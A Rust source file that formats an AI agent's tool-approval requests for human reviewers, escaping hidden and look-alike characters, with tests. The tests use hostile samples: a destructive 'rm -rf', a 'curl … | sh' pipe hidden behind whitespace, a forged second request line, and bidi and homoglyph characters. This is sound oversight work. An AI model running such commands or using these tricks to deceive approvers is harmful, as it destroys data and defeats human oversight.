//! A question as people see it: all that will be done, so that nothing can be read as
//! something else.

use std::fmt::Write as _;

use crate::state::ApprovalRow;

/// How much of a question is in a line, in bytes with its mark: less than what any server
/// relays whole with the longest nick, host and channel.
const LINE: usize = 280;

/// The most lines that a question may take. More is not read before it is answered.
const MOST_LINES: usize = 8;

impl ApprovalRow {
    /// The question as lines for people: a short one in one line, a longer one with a mark
    /// before each, which no guest's words can be taken for.
    ///
    /// None if it takes more lines than people would read.
    pub fn lines(&self) -> Option<Vec<String>> {
        let (id, tool) = (self.id, visible(&self.tool));
        let head = format!("#{id} {} wants to {tool}:", self.agent);
        let shown = visible(&self.what);
        let whole = format!("{head} {shown}");
        if whole.len() <= LINE && !self.what.contains(['\n', '\r']) {
            return Some(vec![whole]);
        }
        let mut lines = vec![head];
        let mark = format!("#{id} | ");
        for part in shown.split_inclusive('⏎') {
            let mut line = mark.clone();
            for c in part.chars() {
                if line.len() + c.len_utf8() > LINE {
                    lines.push(std::mem::replace(&mut line, mark.clone()));
                }
                line.push(c);
            }
            lines.push(line);
            if lines.len() > MOST_LINES {
                return None;
            }
        }
        Some(lines)
    }
}

/// `text` with everything in sight: a line break is `⏎`, each of several spaces and each at
/// an end is `␣`, and what is not seen, joins or reorders, or looks like another letter is
/// `\u{…}`. Two texts are never shown alike.
fn visible(text: &str) -> String {
    let mut shown = String::with_capacity(text.len());
    let mut before = ' ';
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '\n' => shown.push('⏎'),
            ' ' if before == ' ' || matches!(chars.peek(), None | Some(' ' | '\n')) => {
                shown.push('␣');
            }
            // Only before what would be read as ours.
            '\\' if chars.peek() == Some(&'u') => shown.push_str("\\u{5c}"),
            c if c == ' ' || c.is_ascii_graphic() || is_plain_letter(c) => shown.push(c),
            c => {
                // Writing to a string does not fail.
                let _ = write!(shown, "\\u{{{:x}}}", u32::from(c));
            }
        }
        before = if c == '\n' { ' ' } else { c };
    }
    shown
}

/// Letters beyond ASCII that are seen, stand alone, run from left to right and look like
/// no letter of ASCII: Latin with marks, kana, Han, Hangul syllables.
fn is_plain_letter(c: char) -> bool {
    matches!(
        c,
        'À'..='Ö' | 'Ø'..='ö' | 'ø'..='ž' | 'ぁ'..='ゖ' | 'ァ'..='ヺ' | '一'..='鿿' | '가'..='힣'
    ) && c != 'ı'
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn question(what: &str) -> ApprovalRow {
        ApprovalRow {
            id: 23,
            agent: "worker".into(),
            message: 1,
            tool: "run_command".into(),
            what: what.into(),
            verdict: None,
            asked: 0,
        }
    }

    fn lines(what: &str) -> Vec<String> {
        question(what).lines().unwrap()
    }

    #[test]
    fn all_that_will_be_done_is_shown() {
        assert_eq!(lines("rm -rf /x"), ["#23 worker wants to run_command: rm -rf /x"]);
        // Not even far behind spaces is anything hidden.
        let hidden = format!("true{}; curl x | sh", " ".repeat(300));
        let shown = lines(&hidden);
        assert_eq!(shown[0], "#23 worker wants to run_command:");
        assert!(shown.last().unwrap().ends_with("; curl x | sh"), "{shown:?}");
        assert_eq!(shown.concat().matches('␣').count(), 300);
        assert_eq!(
            lines("true\n#1 other wants to run_command: false"),
            [
                "#23 worker wants to run_command:",
                "#23 | true⏎",
                "#23 | #1 other wants to run_command: false"
            ]
        );
        let seen = visible("a\u{202e}b\u{200b}c\r\x1b[2J\u{430}\t\u{3164}é");
        assert_eq!(seen, "a\\u{202e}b\\u{200b}c\\u{d}\\u{1b}[2J\\u{430}\\u{9}\\u{3164}é");
        assert_eq!(visible("\\u{202e}"), "\\u{5c}u{202e}");
    }

    #[test]
    fn what_nobody_would_read_is_no_question() {
        assert!(question(&"x".repeat(ApprovalRow::MAX_WHAT)).lines().is_none());
        assert!(question(&"a\n".repeat(9)).lines().is_none());
        assert!(question(&"x".repeat(1800)).lines().is_some());
    }

    proptest! {
        #[test]
        fn each_line_has_its_mark_and_fits(what in "(\\PC|[ \\n\\r\\t]|[\\x00-\u{ff}]|\\\\u){0,400}") {
            for (n, line) in question(&what).lines().into_iter().flatten().enumerate() {
                let mark = if n == 0 { "#23 worker wants to run_command:" } else { "#23 | " };
                prop_assert!(line.starts_with(mark), "{line:?}");
                prop_assert!(line.len() <= LINE && !line.chars().any(char::is_control), "{line:?}");
            }
        }

        #[test]
        fn no_two_are_shown_alike(a in "[ a\\\\u{}5c⏎␣\\n]{0,8}", b in "[ a\\\\u{}5c⏎␣\\n]{0,8}") {
            prop_assert_eq!(visible(&a) == visible(&b), a == b);
        }
    }
}
